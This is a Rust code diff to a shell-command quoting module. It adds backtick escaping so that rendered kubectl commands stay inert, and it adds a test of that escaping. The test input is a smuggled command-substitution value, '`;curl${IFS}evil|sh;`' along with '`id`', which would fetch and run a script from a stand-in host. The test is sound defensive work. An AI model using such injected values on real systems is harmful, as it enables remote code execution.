@@ -14,6 +14,8 @@
 //! - a word holding a control character (C0, DEL, C1), a bidi control or another invisible format
 //!   character is written with bash's `$'...'` and `\xHH` escapes of its UTF-8 bytes, so a
 //!   rendered command is always one visible line and never drives the terminal;
+//! - so is a word holding a backtick (written `\x60`): a rendered command never contains one, so
+//!   it can sit in a Markdown or Slack code span, whose end a backtick would be, unchanged;
 //! - a placeholder the user must fill in is written `<name>`, always quoted (`'<value>'`), so the
 //!   shell never reads `<` as a redirection: pasted unchanged, it is only text;
 //! - NUL cannot travel in an argument: it is replaced by the visible text `<NUL>` (in
@@ -420,7 +422,7 @@ fn quote(s: &str, first: bool) -> String {
 }
 
 fn quote_always(s: &str) -> String {
-    if s.chars().any(needs_escape) {
+    if s.chars().any(|c| c == '`' || needs_escape(c)) {
         let mut out = String::from("$'");
         for c in s.chars() {
             match c {
@@ -428,6 +430,7 @@ fn quote_always(s: &str) -> String {
                 // Written as escapes so that no history expansion or quote scanner sees them.
                 '\'' => out.push_str("\\x27"),
                 '!' => out.push_str("\\x21"),
+                '`' => out.push_str("\\x60"),
                 c if needs_escape(c) => {
                     let mut buf = [0u8; 4];
                     for b in c.encode_utf8(&mut buf).bytes() {
@@ -478,6 +481,19 @@ mod tests {
     fn control_characters_are_escaped_on_one_line() {
         let a = Argv::new("kubectl").arg("a\nb\x1b[2J'!\u{202e}\\");
         assert_eq!(one(a), r"kubectl $'a\x0ab\x1b[2J\x27\x21\xe2\x80\xae\\'");
+    }
+
+    #[test]
+    fn a_backtick_is_never_written_as_one() {
+        let a = Argv::new("kubectl")
+            .arg("--from-file=x`;curl${IFS}evil|sh;`=./x")
+            .arg("`id`");
+        let line = one(a);
+        assert_eq!(
+            line,
+            r"kubectl --from-file=$'x\x60;curl${IFS}evil|sh;\x60=./x' $'\x60id\x60'"
+        );
+        assert!(!line.contains('`'));
     }
 
     #[test]
